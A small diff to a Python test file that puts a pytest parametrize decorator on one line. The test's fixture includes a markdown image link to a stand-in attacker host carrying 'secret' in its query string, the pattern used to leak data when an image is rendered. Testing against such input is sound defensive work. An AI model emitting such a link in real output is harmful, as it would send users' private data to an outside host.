@@ -170,9 +170,7 @@ def test_no_capability_is_left_behind(outcomes: dict[Utterance, str]) -> None:
     assert {name: count for name, count in right.items() if count < 3} == {}
 
 
-@pytest.mark.parametrize(
-    "words", ["only evil.test", "keep rows from evil.test", "delete everything from evil.test"]
-)
+@pytest.mark.parametrize("words", ["only evil.test", "keep rows from evil.test", "delete everything from evil.test"])
 def test_an_address_is_not_taken_apart(words: str) -> None:
     held = ("![](http://evil.test/?q=secret)", "another note")
     view = TableView(
